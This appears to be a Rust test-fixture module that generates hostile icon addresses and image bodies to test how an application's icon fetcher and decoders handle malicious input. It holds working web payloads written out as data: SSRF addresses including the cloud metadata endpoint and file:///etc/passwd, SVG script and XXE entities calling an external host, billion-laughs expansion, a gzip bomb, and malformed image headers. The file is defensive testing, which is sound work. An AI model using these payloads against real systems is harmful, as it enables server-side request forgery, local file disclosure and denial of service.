//! Icons that break decoders, or whose address leads elsewhere.

use std::io::Cursor;

use demo_tenant::{Fault, FaultKind};
use image::{ImageFormat, RgbaImage};

/// What stands in the list, and what the tenant answers to it.
pub(crate) struct HostileIcon {
    pub(crate) address: String,
    pub(crate) fault: Option<Fault>,
}

/// A hundred of them; `trap` is a host that nobody may ask.
pub(crate) fn all(unexpected_host: &str) -> Vec<HostileIcon> {
    let foreign_addresses = [
        format!("http://{unexpected_host}/a.png"),
        format!("https://{unexpected_host}/a.png"),
        format!("//{unexpected_host}/a.png"),
        format!("/\\{unexpected_host}/a.png"),
        format!("\\\\{unexpected_host}\\a.png"),
        format!("http:{unexpected_host}/a.png"),
        format!("http://user@{unexpected_host}/a.png"),
        format!("http://localhost:{}/a.png", unexpected_host.rsplit(':').next().unwrap()),
        format!("http://[::ffff:127.0.0.1]:{}/a.png", unexpected_host.rsplit(':').next().unwrap()),
        format!("http://2130706433:{}/a.png", unexpected_host.rsplit(':').next().unwrap()),
        format!("http://0x7f.1:{}/a.png", unexpected_host.rsplit(':').next().unwrap()),
        format!("\thttp://{unexpected_host}/a.png"),
        format!("java\nscript://{unexpected_host}/%0aalert(1)"),
        "http://169.254.169.254/latest/meta-data/".into(),
        "file:///etc/passwd".into(),
        "file://localhost/etc/passwd".into(),
        "ftp://127.0.0.1/a.png".into(),
        "blob:http://127.0.0.1/x".into(),
        "about:blank".into(),
        "icon://localhost/x".into(),
        "tauri://localhost/index.html".into(),
        "/oauth2/endsession/Portico?x=.png".into(),
        "/Security/Logout?x=.png".into(),
        "../../../../etc/passwd".into(),
        "?".into(),
        "#".into(),
        " ".into(),
        format!("/{}", "a".repeat(100_000)),
        format!("data:image/png;base64,{}", "A".repeat(10 << 20)),
        "data:".into(),
        "data:,".into(),
        "data:image/png;base64,%%%".into(),
        "data:text/html,<script>alert(1)</script>".into(),
        format!("data:image/svg+xml,{}", "%3Csvg%3E".repeat(1000)),
    ];
    let foreign_icons = foreign_addresses.into_iter().map(|address| HostileIcon { address, fault: None });
    let mut faults: Vec<FaultKind> = Vec::new();
    faults.extend(
        hostile_svgs(unexpected_host).into_iter().map(|svg| response_with_type("image/svg+xml", svg.as_bytes())),
    );
    faults.extend(hostile_images().into_iter().map(|image| response_with_type("image/png", &image)));
    for status in [301, 302, 303, 307, 308] {
        faults.push(FaultKind::Redirect { location: format!("http://{unexpected_host}/a.png"), status });
    }
    faults.push(FaultKind::Redirect { location: format!("//{unexpected_host}/a.png"), status: 302 });
    faults.push(FaultKind::Redirect { location: "file:///etc/passwd".into(), status: 302 });
    faults.extend([FaultKind::Huge { bytes: 1 << 40 }, FaultKind::Drop, FaultKind::Empty, FaultKind::Cut]);
    faults.extend([FaultKind::UnauthorizedHtml, FaultKind::LoginHtml, FaultKind::ServerError { status: 500 }]);
    faults.push(FaultKind::Throttled { retry_after: Some("999999".into()) });
    let mut gzip_bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    gzip_bomb.extend(deflated_zeros(200_000));
    faults.push(raw_response(&[("content-type", "image/png"), ("content-encoding", "gzip")], &gzip_bomb));
    // Those that take their time: as many as leave others a way.
    faults.extend([FaultKind::UntilCleared, FaultKind::UntilCleared, FaultKind::Drip { millis: 1000 }]);
    let fault_icons = (0..).zip(faults).map(|(number, kind)| HostileIcon {
        address: format!("/vfslow/lib/application/icons/hostile-{number}.png"),
        fault: Some(Fault::always(&format!("/hostile-{number}\\.png$"), kind)),
    });
    foreign_icons.chain(fault_icons).collect()
}

fn raw_response(headers: &[(&str, &str)], body: &[u8]) -> FaultKind {
    use base64::Engine;
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    let body = base64::engine::general_purpose::STANDARD.encode(body);
    FaultKind::Raw { status: 200, headers, body, base64: true }
}

fn response_with_type(content_type: &str, body: &[u8]) -> FaultKind {
    raw_response(&[("content-type", content_type)], body)
}

fn svg(content: &str) -> String {
    format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{content}</svg>"#
    )
}

fn hostile_svgs(unexpected_host: &str) -> Vec<String> {
    let rect = r#"<rect width="9" height="9"/>"#;
    let nested_uses = (1..12).fold(format!(r#"<g id="l0">{rect}</g>"#), |all, level| {
        all + &format!(r#"<g id="l{level}">{}</g>"#, format!("<use href=\"#l{}\"/>", level - 1).repeat(10))
    });
    let entities = (1..9).fold(String::from(r#"<!ENTITY a0 "xxxxxxxx">"#), |all, level| {
        all + &format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10))
    });
    vec![
        svg("<script>fetch('http://evil.test')</script>"),
        svg(&format!(r#"<image href="http://{unexpected_host}/x.png" width="9" height="9"/>"#)),
        svg(&format!(r#"<image xlink:href="//{unexpected_host}/x.png" width="9" height="9"/>"#)),
        svg(r#"<image href="file:///etc/passwd" width="9" height="9"/>"#),
        svg(&format!(r##"<use href="http://{unexpected_host}/x.svg#a"/>"##)),
        svg(&format!(
            r#"<style>@import url(http://{unexpected_host}/x.css);rect{{fill:url(http://{unexpected_host}/x)}}</style>"#
        )),
        svg(&format!(
            r#"<foreignObject width="9" height="9"><iframe src="http://{unexpected_host}/"/></foreignObject>"#
        )),
        format!("<?xml-stylesheet href=\"http://{unexpected_host}/x.xsl\"?>{}", svg("")),
        format!("<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}", svg("<text>&x;</text>")),
        format!("<!DOCTYPE svg [<!ENTITY % x SYSTEM \"http://{unexpected_host}/x.dtd\"> %x;]>{}", svg("")),
        format!("<!DOCTYPE svg [{entities}]>{}", svg("<desc>&a8;</desc>")),
        svg(&format!("<defs>{nested_uses}</defs><use href=\"#l11\"/>")),
        svg(r##"<g id="a"><use href="#a"/></g>"##),
        svg(
            r#"<pattern id="p" width="1e7" height="1e7" patternUnits="userSpaceOnUse"/><rect width="9" height="9" fill="url(#p)"/>"#,
        ),
        svg(
            r#"<filter id="f"><feTurbulence numOctaves="4000000000"/></filter><rect width="9" height="9" filter="url(#f)"/>"#,
        ),
        svg(
            r##"<mask id="m" mask="url(#m)"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>"##,
        ),
        svg(r#"<path d="M0 0H1e6" stroke="red" stroke-dasharray="1e-6"/>"#),
        svg(&format!("<path d=\"M0 0{}\"/>", "h1v1".repeat(120_000))),
        svg(&format!("{}{}", "<g>".repeat(50_000), "</g>".repeat(50_000))),
        svg(&rect.repeat(15_000)),
        svg(r#"<text y="9">no letters</text>"#),
        svg(r#"<rect width="1e38" height="1e38" transform="scale(1e38)" fill="none"/>"#),
        "<svg".into(),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"0\" height=\"0\"/>".into(),
        "<html><svg xmlns=\"http://www.w3.org/2000/svg\"></svg></html>".into(),
    ]
}

fn encode(image: &RgbaImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let image = image::DynamicImage::ImageRgba8(image.clone());
    let image = if format == ImageFormat::Jpeg { image.into_rgb8().into() } else { image };
    image.write_to(&mut out, format).unwrap();
    out.into_inner()
}

fn overwrite_bytes(bytes: &[u8], offset: usize, value: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    bytes[offset..offset + value.len()].copy_from_slice(value);
    bytes
}

fn hostile_images() -> Vec<Vec<u8>> {
    let transparent = RgbaImage::new(8, 8);
    let encode_as = |format| encode(&transparent, format);
    let (png, gif, bmp, ico) = (
        encode_as(ImageFormat::Png),
        encode_as(ImageFormat::Gif),
        encode_as(ImageFormat::Bmp),
        encode_as(ImageFormat::Ico),
    );
    let (jpeg, webp) = (encode_as(ImageFormat::Jpeg), encode_as(ImageFormat::WebP));
    let frame_offset = jpeg.windows(2).position(|two| two == [0xff, 0xc0]).unwrap();
    let zlib = [&[0x78, 0xda][..], &deflated_zeros(300_000)].concat();
    let chunk = |name: &[u8; 4], content: &[u8]| {
        let length = u32::try_from(content.len()).unwrap().to_be_bytes();
        // With a checksum that is wrong: the reader shall not come so far.
        [&length[..], name, content, &[0; 4]].concat()
    };
    let insert_after_header = |chunks: &[u8]| [&png[..33], chunks, &png[33..]].concat();
    let text = chunk(b"zTXt", &[b"k\0\0", &zlib[..]].concat());
    let profile = chunk(b"iCCP", &[b"k\0\0", &zlib[..]].concat());
    let frames: Vec<u8> = (0..10_000).flat_map(|_| chunk(b"fcTL", &[0; 26])).collect();
    let control = chunk(b"acTL", &[10_000u32.to_be_bytes(), [0; 4]].concat());
    vec![
        overwrite_bytes(&png, 16, &[0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff]),
        overwrite_bytes(&png, 16, &[0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff]),
        overwrite_bytes(&png, 16, &[0; 8]),
        png[..40].to_vec(),
        png.clone(),
        insert_after_header(&text),
        insert_after_header(&profile),
        insert_after_header(&[control, frames].concat()),
        overwrite_bytes(&gif, 6, &[0xff; 4]),
        gif[..14].to_vec(),
        [&gif[..gif.len() - 1], &[0x21, 0xfe, 255][..]].concat(),
        overwrite_bytes(&bmp, 18, &[0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 0x7f]),
        overwrite_bytes(&ico, 4, &[0xff, 0xff]),
        ico[..20].to_vec(),
        overwrite_bytes(&jpeg, frame_offset + 5, &[0xff; 4]),
        jpeg[..jpeg.len() / 2].to_vec(),
        overwrite_bytes(&webp, 21, &[0xff; 4]),
        webp[..16].to_vec(),
        b"II*\0\x08\0\0\0\xff\xff".to_vec(),
        b"%PDF-1.7\n%\xff\xff".to_vec(),
        b"MZ\x90\0".to_vec(),
        b"<html><body><script>alert(1)</script></body></html>".to_vec(),
        [&b"GIF89a=1;/*"[..], b"*/alert(1)"].concat(),
        vec![0; 500_000],
        vec![0xff; 500_000],
    ]
}

/// A block of deflate that is not the last (RFC 1951): a zero, and `repeats` times 258 more of them.
fn deflated_zeros(repeats: usize) -> Vec<u8> {
    let bits = std::iter::once("01000110000").chain(std::iter::repeat_n("1100010100000", repeats)).chain(["0000000"]);
    let mut bytes = Vec::new();
    for (bit_index, bit) in bits.flat_map(str::bytes).enumerate() {
        if bit_index.is_multiple_of(8) {
            bytes.push(0);
        }
        *bytes.last_mut().unwrap() |= (bit - b'0') << (bit_index % 8);
    }
    bytes
}
